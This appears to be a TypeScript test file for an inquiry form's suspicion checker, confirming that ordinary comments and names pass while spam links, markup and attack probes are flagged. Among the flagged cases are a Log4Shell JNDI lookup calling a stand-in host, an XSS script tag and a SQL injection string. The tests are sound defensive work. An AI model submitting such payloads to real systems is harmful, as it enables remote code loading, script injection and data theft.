import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { suspicionsOf } from '#lambda/submit-inquiry/suspicion.ts';
import { ordinaryComments } from './ordinary-comments.ts';
import { goodInquiry } from './post-event.ts';

const suspicions = (changes: Partial<typeof goodInquiry>) => suspicionsOf({ ...goodInquiry, ...changes });

describe('an ordinary inquiry', () => {
  it.each(Object.entries(ordinaryComments))('is not marked: %s', (_, comment) => {
    expect(suspicions({ comment })).toEqual([]);
    for (const change of [comment.toUpperCase(), comment.toLowerCase(), comment.normalize('NFD')]) {
      expect(suspicions({ comment: change })).toEqual([]);
    }
  });

  it('is not marked, however its sentences are mixed', () => {
    const sentences = fc.shuffledSubarray(Object.values(ordinaryComments), { minLength: 1, maxLength: 12 });
    const gap = fc.constantFrom(' ', '\n', '\n\n', ' – ', '…');
    fc.assert(
      fc.property(sentences, gap, (some, between) => {
        const comment = some.join(between);
        expect(suspicions({ comment })).toEqual([]);
      }),
    );
  });

  it.each(['Łukasz Brzęczyszczykiewicz', 'Ng', 'O’Neill-Schmidt', '陳大文', 'नरेंद्र', 'Dr. J. R. Ewing, PhD'])(
    'is not marked for a name like %s',
    (name) => {
      expect(suspicions({ name })).toEqual([]);
    },
  );
});

describe('what no customer writes', () => {
  it.each([
    ['links', { comment: 'Cheap! https://a.example '.repeat(5) }],
    ['links', { comment: 'See https://www.a.example '.repeat(5) }],
    ['links', { comment: 'www.a.example www.b.example http://c.example HTTP://d.example www.e.example' }],
    ['name', { name: 'Win now https://a.example' }],
    ['markup', { comment: 'Look [url=http://a.example]here[/url]' }],
    ['markup', { comment: 'Look <a href="http://a.example">here</a>' }],
    ['probe', { comment: `$${'{jndi:ldap://a.example/x}'}` }],
    ['probe', { name: "<script>alert('x')</script>" }],
    ['probe', { comment: "1' OR '1'='1" }],
  ])('is marked as %s: %j', (suspicion, changes) => {
    expect(suspicions(changes)).toEqual([suspicion]);
  });
});
